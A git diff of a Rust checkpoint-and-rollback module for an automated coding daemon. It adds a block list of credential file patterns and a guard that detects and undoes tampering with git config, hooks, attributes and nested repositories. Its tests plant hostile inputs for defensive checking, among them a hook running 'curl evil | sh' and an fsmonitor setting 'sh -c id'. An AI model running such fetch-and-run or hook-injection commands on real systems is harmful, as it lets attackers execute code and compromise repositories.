@@ -7,6 +7,14 @@
 //! and tagged `maestro/<loop>/<epoch>`. HEAD, the branch and the index are
 //! never touched, so the user's own uncommitted work stays exactly as it was
 //! at the checkpoint. A workspace that is not a git repository is initialised.
+//!
+//! Secrets (`.env`, keys, credentials: [`SECRET_PATTERNS`]) never enter a
+//! checkpoint or a commit, and a rollback leaves them alone; nested `.git`
+//! entries never enter a tree. The tag of an epoch holds only the work: the
+//! files the user tracks and those the loop wrote, not the user's other
+//! untracked files. A guard (`guard`, `tampered`, `restore_guarded`) keeps
+//! what git and the daemon trust — `.git/config`, `.git/hooks`,
+//! `.git/info/attributes`, `.maestro/` — and finds nested `.git` entries.
 
 use std::path::{Path, PathBuf};
 
@@ -21,6 +29,36 @@ pub enum RollbackError {
     Io { path: String, source: std::io::Error },
     #[error("invalid loop id {0:?}: use lowercase letters, digits and '-'")]
     LoopId(String),
+}
+
+/// Files never checkpointed, committed or rolled back (gitignore syntax).
+pub const SECRET_PATTERNS: [&str; 17] = [
+    ".env",
+    ".env.*",
+    "*.pem",
+    "*.key",
+    "*.p12",
+    "*.pfx",
+    "id_rsa*",
+    "id_dsa*",
+    "id_ecdsa*",
+    "id_ed25519*",
+    ".netrc",
+    ".pgpass",
+    ".git-credentials",
+    ".aws/",
+    ".ssh/",
+    ".gnupg/",
+    ".docker/config.json",
+];
+
+/// A successful epoch: the complete state (for rollbacks) and the tagged work.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Committed {
+    /// `refs/maestro/<loop>/<epoch>/done`: every file, as the next epoch starts from it.
+    pub checkpoint: String,
+    /// `maestro/<loop>/<epoch>`: the user's tracked files and the loop's work.
+    pub tagged: String,
 }
 
 /// A recorded state of the working tree.
@@ -77,6 +115,8 @@ impl GitWorkspace {
             Ok(repo) if repo.workdir().is_some_and(|w| w.canonicalize().is_ok_and(|w| w == root)) => repo,
             _ => Repository::init(&root)?,
         };
+        // In memory only (the repository's files are not changed): secrets count as ignored.
+        repo.add_ignore_rule(&SECRET_PATTERNS.join("\n"))?;
         Ok(GitWorkspace { repo, root })
     }
 
@@ -108,7 +148,8 @@ impl GitWorkspace {
             let entry = entry.map_err(io_error(dir))?;
             let name = entry.file_name();
             let rel_path = rel.join(&name);
-            if rel.as_os_str().is_empty() && name == ".git" {
+            // The repository's own `.git`, and nested ones (another repository's hooks).
+            if name == ".git" {
                 continue;
             }
             let path = entry.path();
@@ -172,10 +213,11 @@ impl GitWorkspace {
         Ok(Checkpoint { commit: commit.to_string(), reference: String::new() })
     }
 
-    /// The commit tagged `maestro/<loop>/<epoch>`, if that epoch was committed.
-    pub fn committed(&self, loop_id: &str, epoch: u64) -> Option<String> {
-        let tag = self.repo.find_reference(&format!("refs/tags/maestro/{loop_id}/{epoch}")).ok()?;
-        Some(tag.peel_to_commit().ok()?.id().to_string())
+    /// The epoch's commits, if it was committed (and tagged).
+    pub fn committed(&self, loop_id: &str, epoch: u64) -> Option<Committed> {
+        let tagged = self.tagged(loop_id, epoch)?;
+        let done = self.repo.find_reference(&format!("refs/maestro/{loop_id}/{epoch}/done")).ok()?;
+        Some(Committed { checkpoint: done.peel_to_commit().ok()?.id().to_string(), tagged })
     }
 
     /// Puts the working tree back exactly as it was at `checkpoint`: changed
@@ -225,21 +267,264 @@ impl GitWorkspace {
         Ok(removed)
     }
 
-    /// Records the working tree at the end of a successful epoch and tags it
-    /// `maestro/<loop>/<epoch>`. Returns the commit id.
+    /// Records the working tree at the end of a successful epoch (the complete
+    /// checkpoint under `refs/maestro/<loop>/<epoch>/done`) and tags the work
+    /// `maestro/<loop>/<epoch>`: the files the user tracks, and those the loop
+    /// added or changed since `baseline` (its first checkpoint). The tagged
+    /// commits of a loop form a chain on top of the user's HEAD.
     pub fn commit(
         &self,
         loop_id: &str,
         epoch: u64,
         checkpoint: &Checkpoint,
+        baseline: &Checkpoint,
         message: &str,
-    ) -> Result<String, RollbackError> {
+    ) -> Result<Committed, RollbackError> {
         check_loop_id(loop_id)?;
         let reference = format!("refs/maestro/{loop_id}/{epoch}/done");
-        let oid = self.commit_worktree(&reference, message, Some(Oid::from_str(&checkpoint.commit)?))?;
-        let object = self.repo.find_object(oid, Some(ObjectType::Commit))?;
+        let complete = self.commit_worktree(&reference, message, Some(Oid::from_str(&checkpoint.commit)?))?;
+        let all = self.repo.find_commit(complete)?.tree()?;
+        let base = self.repo.find_commit(Oid::from_str(&baseline.commit)?)?.tree()?;
+        let mut tracked = std::collections::BTreeSet::new();
+        if let Ok(index) = self.repo.index() {
+            tracked.extend(index.iter().map(|e| String::from_utf8_lossy(&e.path).into_owned()));
+        }
+        if let Some(head) = self.repo.head().ok().and_then(|h| h.peel_to_tree().ok()) {
+            head.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
+                if entry.kind() == Some(ObjectType::Blob) {
+                    tracked.insert(format!("{dir}{}", entry.name().unwrap_or_default()));
+                }
+                git2::TreeWalkResult::Ok
+            })?;
+        }
+        let keep = |path: &str, id: Oid| {
+            tracked.contains(path) || base.get_path(Path::new(path)).map_or(true, |entry| entry.id() != id)
+        };
+        let work = match self.filtered(&all, "", &keep)? {
+            Some(oid) => oid,
+            None => self.empty_tree()?,
+        };
+        let parent = (1..epoch)
+            .rev()
+            .find_map(|e| self.tagged(loop_id, e))
+            .and_then(|id| Oid::from_str(&id).ok())
+            .and_then(|oid| self.repo.find_commit(oid).ok())
+            .or_else(|| self.repo.head().ok().and_then(|h| h.peel_to_commit().ok()));
+        let signature = Self::signature()?;
+        let parents: Vec<&git2::Commit<'_>> = parent.iter().collect();
+        let tree = self.repo.find_tree(work)?;
+        let tagged = self.repo.commit(None, &signature, &signature, message, &tree, &parents)?;
+        let object = self.repo.find_object(tagged, Some(ObjectType::Commit))?;
         self.repo.tag_lightweight(&format!("maestro/{loop_id}/{epoch}"), &object, true)?;
+        Ok(Committed { checkpoint: complete.to_string(), tagged: tagged.to_string() })
+    }
+
+    /// The commit tagged `maestro/<loop>/<epoch>`, if any.
+    fn tagged(&self, loop_id: &str, epoch: u64) -> Option<String> {
+        let tag = self.repo.find_reference(&format!("refs/tags/maestro/{loop_id}/{epoch}")).ok()?;
+        Some(tag.peel_to_commit().ok()?.id().to_string())
+    }
+
+    /// The blobs of `tree` that `keep` accepts (path, blob id), as a new tree.
+    fn filtered(
+        &self,
+        tree: &git2::Tree<'_>,
+        prefix: &str,
+        keep: &dyn Fn(&str, Oid) -> bool,
+    ) -> Result<Option<Oid>, RollbackError> {
+        let mut builder = self.repo.treebuilder(None)?;
+        let mut entries = 0;
+        for entry in tree.iter() {
+            let name = entry.name().unwrap_or_default();
+            let path = format!("{prefix}{name}");
+            let id = match entry.kind() {
+                Some(ObjectType::Tree) => {
+                    let sub = self.repo.find_tree(entry.id())?;
+                    match self.filtered(&sub, &format!("{path}/"), keep)? {
+                        Some(id) => id,
+                        None => continue,
+                    }
+                }
+                _ if keep(&path, entry.id()) => entry.id(),
+                _ => continue,
+            };
+            builder.insert(name, id, entry.filemode())?;
+            entries += 1;
+        }
+        Ok(if entries == 0 { None } else { Some(builder.write()?) })
+    }
+
+    /// What git and the daemon trust, as it is: path (`git/config`,
+    /// `git/hooks/…`, `git/info/attributes`, `maestro/…`) → content, and
+    /// `nested` → the nested `.git` entries of the workspace, one per line.
+    fn guarded(&self) -> Result<std::collections::BTreeMap<String, Vec<u8>>, RollbackError> {
+        let mut files = std::collections::BTreeMap::new();
+        let git = self.repo.path().to_path_buf();
+        for (dir, prefix) in [(git.join("hooks"), "git/hooks"), (self.root.join(".maestro"), "maestro")] {
+            collect(&dir, prefix, &mut files)?;
+        }
+        for (file, key) in [("config", "git/config"), ("info/attributes", "git/info/attributes")] {
+            if let Ok(bytes) = std::fs::read(git.join(file)) {
+                files.insert(key.to_string(), bytes);
+            }
+        }
+        let mut nested = Vec::new();
+        find_nested_git(&self.root, &self.root, 0, &mut nested);
+        files.insert("nested".into(), nested.join("\n").into_bytes());
+        Ok(files)
+    }
+
+    /// Records what git and the daemon trust under `refs/maestro/<loop>/<epoch>/guard`.
+    pub fn guard(&self, loop_id: &str, epoch: u64) -> Result<String, RollbackError> {
+        check_loop_id(loop_id)?;
+        let mut index = Index::new()?;
+        for (path, bytes) in self.guarded()? {
+            let blob = self.repo.blob(&bytes)?;
+            let entry = git2::IndexEntry {
+                ctime: git2::IndexTime::new(0, 0),
+                mtime: git2::IndexTime::new(0, 0),
+                dev: 0,
+                ino: 0,
+                mode: 0o100644,
+                uid: 0,
+                gid: 0,
+                file_size: bytes.len() as u32,
+                id: blob,
+                flags: 0,
+                flags_extended: 0,
+                path: path.into_bytes(),
+            };
+            index.add(&entry)?;
+        }
+        let tree = self.repo.find_tree(index.write_tree_to(&self.repo)?)?;
+        let signature = Self::signature()?;
+        let message = format!("maestro: guarded files of {loop_id} epoch {epoch}");
+        let oid = self.repo.commit(None, &signature, &signature, &message, &tree, &[])?;
+        self.repo.reference(&format!("refs/maestro/{loop_id}/{epoch}/guard"), oid, true, &message)?;
         Ok(oid.to_string())
+    }
+
+    /// The guarded paths that differ from `guard` (a new nested `.git` shows as `nested`).
+    pub fn tampered(&self, guard: &str) -> Result<Vec<String>, RollbackError> {
+        let then = self.guard_files(guard)?;
+        let now = self.guarded()?;
+        let mut changed: Vec<String> = now
+            .iter()
+            .filter(|(path, bytes)| then.get(*path) != Some(*bytes))
+            .map(|(path, _)| path.clone())
+            .chain(then.keys().filter(|path| !now.contains_key(*path)).cloned())
+            .collect();
+        changed.sort();
+        changed.dedup();
+        Ok(changed)
+    }
+
+    fn guard_files(&self, guard: &str) -> Result<std::collections::BTreeMap<String, Vec<u8>>, RollbackError> {
+        let tree = self.repo.find_commit(Oid::from_str(guard)?)?.tree()?;
+        let mut files = std::collections::BTreeMap::new();
+        tree.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
+            if let Ok(blob) = self.repo.find_blob(entry.id()) {
+                files.insert(format!("{dir}{}", entry.name().unwrap_or_default()), blob.content().to_vec());
+            }
+            git2::TreeWalkResult::Ok
+        })?;
+        Ok(files)
+    }
+
+    /// Puts `.git/config`, `.git/hooks` and `.git/info/attributes` back as in
+    /// `guard` and removes nested `.git` entries that were not there. `.maestro/`
+    /// is not written: a person may have changed it.
+    pub fn restore_guarded(&self, guard: &str) -> Result<(), RollbackError> {
+        let then = self.guard_files(guard)?;
+        let git = self.repo.path().to_path_buf();
+        let hooks = git.join("hooks");
+        if let Ok(entries) = std::fs::read_dir(&hooks) {
+            for entry in entries.flatten() {
+                let key = format!("git/hooks/{}", entry.file_name().to_string_lossy());
+                if !then.contains_key(&key) {
+                    let path = entry.path();
+                    if path.is_dir() && !path.is_symlink() {
+                        std::fs::remove_dir_all(&path).map_err(io_error(&path))?;
+                    } else {
+                        std::fs::remove_file(&path).map_err(io_error(&path))?;
+                    }
+                }
+            }
+        }
+        for (key, bytes) in &then {
+            let Some(rel) = key.strip_prefix("git/") else { continue };
+            let path = git.join(rel);
+            if let Some(parent) = path.parent() {
+                std::fs::create_dir_all(parent).map_err(io_error(parent))?;
+            }
+            // A link planted in place of the file is replaced, not followed.
+            if path.is_symlink() {
+                std::fs::remove_file(&path).map_err(io_error(&path))?;
+            }
+            std::fs::write(&path, bytes).map_err(io_error(&path))?;
+        }
+        for (rel, key) in [("config", "git/config"), ("info/attributes", "git/info/attributes")] {
+            if !then.contains_key(key) {
+                let _ = std::fs::remove_file(git.join(rel));
+            }
+        }
+        let allowed: Vec<String> = then
+            .get("nested")
+            .map(|b| String::from_utf8_lossy(b).lines().map(String::from).collect())
+            .unwrap_or_default();
+        let mut nested = Vec::new();
+        find_nested_git(&self.root, &self.root, 0, &mut nested);
+        for rel in nested.into_iter().filter(|n| !allowed.contains(n)) {
+            let path = self.root.join(&rel);
+            if path.is_dir() && !path.is_symlink() {
+                std::fs::remove_dir_all(&path).map_err(io_error(&path))?;
+            } else {
+                std::fs::remove_file(&path).map_err(io_error(&path))?;
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Every file below `dir` (no links followed) into `files` as `prefix/rel` → content.
+fn collect(
+    dir: &Path,
+    prefix: &str,
+    files: &mut std::collections::BTreeMap<String, Vec<u8>>,
+) -> Result<(), RollbackError> {
+    let Ok(entries) = std::fs::read_dir(dir) else { return Ok(()) };
+    for entry in entries.flatten() {
+        let path = entry.path();
+        let key = format!("{prefix}/{}", entry.file_name().to_string_lossy());
+        let kind = entry.file_type().map_err(io_error(&path))?;
+        if kind.is_dir() {
+            collect(&path, &key, files)?;
+        } else if kind.is_symlink() {
+            let target = std::fs::read_link(&path).map_err(io_error(&path))?;
+            files.insert(key, format!("symlink:{}", target.display()).into_bytes());
+        } else {
+            files.insert(key, std::fs::read(&path).map_err(io_error(&path))?);
+        }
+    }
+    Ok(())
+}
+
+/// Nested `.git` entries below `dir` (relative paths), not the workspace's own.
+fn find_nested_git(root: &Path, dir: &Path, depth: usize, out: &mut Vec<String>) {
+    let Ok(entries) = std::fs::read_dir(dir) else { return };
+    let mut entries: Vec<_> = entries.flatten().collect();
+    entries.sort_by_key(|e| e.file_name());
+    for entry in entries {
+        let path = entry.path();
+        if entry.file_name() == ".git" {
+            if dir != root {
+                out.push(path.strip_prefix(root).unwrap_or(&path).display().to_string());
+            }
+            continue;
+        }
+        if depth < 16 && entry.file_type().is_ok_and(|t| t.is_dir()) {
+            find_nested_git(root, &path, depth + 1, out);
+        }
     }
 }
 
@@ -391,18 +676,99 @@ mod tests {
     #[test]
     fn a_successful_epoch_is_committed_and_tagged_beside_the_users_history() {
         let dir = tempfile::tempdir().unwrap();
-        populate(dir.path());
-        let ws = GitWorkspace::open_or_init(dir.path()).unwrap();
-        let checkpoint = ws.checkpoint("demo", 1).unwrap();
-        write(dir.path(), "src/api/todo.py", "def add():\n    pass\n");
-        let commit = ws.commit("demo", 1, &checkpoint, "maestro: demo epoch 1").unwrap();
-        let repo = Repository::open(dir.path()).unwrap();
+        let root = dir.path();
+        populate(root);
+        // The user tracks README.md; docs/guide.md and run.sh are theirs but untracked.
+        let repo = Repository::init(root).unwrap();
+        let mut index = repo.index().unwrap();
+        index.add_path(Path::new("README.md")).unwrap();
+        index.write().unwrap();
+        write(root, ".env", "TOKEN=secret\n");
+        write(root, "keys/deploy.pem", "-----BEGIN PRIVATE KEY-----\n");
+        let ws = GitWorkspace::open_or_init(root).unwrap();
+        let baseline = ws.checkpoint("demo", 1).unwrap();
+        write(root, "src/api/todo.py", "def add():\n    pass\n");
+        write(root, "README.md", "# project, changed\n");
+        std::fs::create_dir_all(root.join("src/api/.git/hooks")).unwrap();
+        write(root, "src/api/.git/hooks/pre-commit", "#!/bin/sh\nid\n");
+        let committed = ws.commit("demo", 1, &baseline, &baseline, "maestro: demo epoch 1").unwrap();
+        let repo = Repository::open(root).unwrap();
         let tagged = repo.revparse_single("maestro/demo/1").unwrap().peel_to_commit().unwrap();
-        assert_eq!(tagged.id().to_string(), commit);
-        assert_eq!(tagged.parent_id(0).unwrap().to_string(), checkpoint.commit);
-        assert!(tagged.tree().unwrap().get_path(Path::new("src/api/todo.py")).is_ok());
+        assert_eq!(tagged.id().to_string(), committed.tagged);
+        let tree = tagged.tree().unwrap();
+        let has = |path: &str| tree.get_path(Path::new(path)).is_ok();
+        assert!(has("src/api/todo.py") && has("README.md"), "the loop's work and the user's tracked files");
+        assert!(!has("src/api/app.py"), "the user's untracked file stays out of the tag");
+        for absent in
+            ["docs/guide.md", "run.sh", ".env", "keys/deploy.pem", "src/api/.git", "src/api/.git/hooks/pre-commit"]
+        {
+            assert!(!has(absent), "{absent} is in the tag");
+        }
+        // The complete checkpoint has the user's untracked files (for rollbacks), never secrets or nested .git.
+        let done = repo.find_commit(Oid::from_str(&committed.checkpoint).unwrap()).unwrap().tree().unwrap();
+        assert!(done.get_path(Path::new("docs/guide.md")).is_ok() && done.get_path(Path::new(".env")).is_err());
+        assert!(done.get_path(Path::new("src/api/.git")).is_err());
+        assert_eq!(ws.committed("demo", 1), Some(committed.clone()));
+        // Epochs chain on top of each other.
+        write(root, "src/api/more.py", "x = 1\n");
+        let second =
+            ws.commit("demo", 2, &ws.checkpoint_of(&committed.checkpoint).unwrap(), &baseline, "epoch 2").unwrap();
+        let second = repo.find_commit(Oid::from_str(&second.tagged).unwrap()).unwrap();
+        assert_eq!(second.parent_id(0).unwrap().to_string(), committed.tagged);
         assert!(repo.head().is_err(), "no branch was created or moved");
         assert!(ws.checkpoint("Bad Id", 1).is_err());
+    }
+
+    #[test]
+    fn secrets_are_never_checkpointed_and_a_rollback_leaves_them_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        populate(root);
+        write(root, ".env", "TOKEN=1\n");
+        let ws = GitWorkspace::open_or_init(root).unwrap();
+        let checkpoint = ws.checkpoint("loop-1", 1).unwrap();
+        let repo = Repository::open(root).unwrap();
+        let tree = repo.find_commit(Oid::from_str(&checkpoint.commit).unwrap()).unwrap().tree().unwrap();
+        assert!(tree.get_path(Path::new(".env")).is_err(), "the secret is not in the checkpoint");
+        write(root, ".env", "TOKEN=2\n");
+        write(root, "src/api/id_ed25519", "key\n");
+        ws.rollback(&checkpoint).unwrap();
+        assert_eq!(std::fs::read_to_string(root.join(".env")).unwrap(), "TOKEN=2\n", "left alone");
+        assert!(root.join("src/api/id_ed25519").exists(), "left alone");
+        assert!(
+            !repo.status_should_ignore(Path::new(".env")).unwrap(),
+            "the repository's own ignore files are unchanged"
+        );
+    }
+
+    #[test]
+    fn the_guard_finds_and_undoes_planted_hooks_config_and_nested_repositories() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path();
+        populate(root);
+        std::fs::create_dir_all(root.join(".maestro")).unwrap();
+        write(root, ".maestro/config.yaml", "llm: {}\n");
+        let ws = GitWorkspace::open_or_init(root).unwrap();
+        let guard = ws.guard("loop-1", 1).unwrap();
+        assert!(ws.tampered(&guard).unwrap().is_empty());
+        let config = std::fs::read_to_string(root.join(".git/config")).unwrap();
+        write(root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
+        std::fs::write(root.join(".git/config"), format!("{config}[core]\n\tfsmonitor = sh -c id\n")).unwrap();
+        write(root, ".git/info/attributes", "* filter=evil\n");
+        write(root, "src/api/.git/hooks/post-checkout", "#!/bin/sh\nid\n");
+        write(root, ".maestro/config.yaml", "llm: {base_url: http://evil}\n");
+        let changed = ws.tampered(&guard).unwrap();
+        assert_eq!(
+            changed,
+            ["git/config", "git/hooks/pre-commit", "git/info/attributes", "maestro/config.yaml", "nested"]
+        );
+        ws.restore_guarded(&guard).unwrap();
+        assert_eq!(std::fs::read_to_string(root.join(".git/config")).unwrap(), config);
+        assert!(!root.join(".git/hooks/pre-commit").exists() && !root.join(".git/info/attributes").exists());
+        assert!(!root.join("src/api/.git").exists());
+        assert!(root.join(".git/hooks").is_dir(), "the hooks folder itself stays");
+        // .maestro is a person's to change: reported, not written back.
+        assert_eq!(ws.tampered(&guard).unwrap(), ["maestro/config.yaml"]);
     }
 
     #[test]
@@ -411,7 +777,7 @@ mod tests {
         populate(dir.path());
         let ws = GitWorkspace::open_or_init(dir.path()).unwrap();
         let first = ws.checkpoint("loop-6", 2).unwrap();
-        ws.commit("loop-6", 2, &first, "maestro: loop-6 epoch 2").unwrap();
+        ws.commit("loop-6", 2, &first, &first, "maestro: loop-6 epoch 2").unwrap();
         // A daemon killed while writing epoch 3's checkpoint and tag leaves its locks behind.
         let git = dir.path().join(".git");
         write(&git, "refs/maestro/loop-6/3/start.lock", "");
@@ -424,7 +790,7 @@ mod tests {
 
         assert_eq!(ws.clear_stale_locks("loop-6").unwrap(), 2);
         let next = ws.checkpoint("loop-6", 3).unwrap();
-        ws.commit("loop-6", 3, &next, "maestro: loop-6 epoch 3").unwrap();
+        ws.commit("loop-6", 3, &next, &first, "maestro: loop-6 epoch 3").unwrap();
         assert!(ws.committed("loop-6", 3).is_some());
         assert!(git.join("refs/maestro/loop-7/1/start.lock").exists());
         assert!(git.join("index.lock").exists());
